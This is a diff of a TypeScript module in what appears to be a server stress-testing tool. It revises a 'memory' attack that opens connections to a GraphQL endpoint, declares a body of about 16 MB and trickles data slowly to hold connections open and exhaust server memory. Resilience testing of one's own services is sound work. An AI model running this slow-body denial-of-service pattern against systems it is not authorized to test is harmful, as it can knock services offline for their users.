@@ -2,7 +2,7 @@ import { once } from 'node:events';
 
 import { ARRAY_LENGTH, repeat, SMALL_HEAP } from './attack.ts';
 import type { Attack } from './attack.ts';
-import { headOf, held, open, send } from './connection.ts';
+import { headOf, held, open, readResponse, send } from './connection.ts';
 
 const BODY_BYTES = 16 * 1_024 * 1_024;
 const LARGE_BODIES = 3;
@@ -32,11 +32,12 @@ export const memory: Attack[] = [
       repeat(TRICKLING, signal, async () => {
         const socket = await open(target);
         const head = { 'content-type': 'application/json', 'content-length': BODY_BYTES - 1_024 };
-        socket.resume().write(headOf(target, 'POST /graphql', head));
-        for (let sent = 0; sent < SENT_BYTES && !socket.closed && !signal.aborted; sent += BLOCK.length)
-          if (!socket.write(BLOCK)) await Promise.race([once(socket, 'drain'), held(socket, signal)]);
+        readResponse(socket).write(headOf(target, 'POST /graphql', head));
+        const closed = held(socket, signal);
+        for (let sent = 0; sent < SENT_BYTES && !socket.destroyed; sent += BLOCK.length)
+          if (!socket.write(BLOCK)) await Promise.race([once(socket, 'drain'), closed]);
         const timer = setInterval(() => socket.write(BLOCK.subarray(0, TRICKLE_BYTES)), 1_000);
-        await held(socket, signal);
+        await closed;
         clearInterval(timer);
       }),
   },
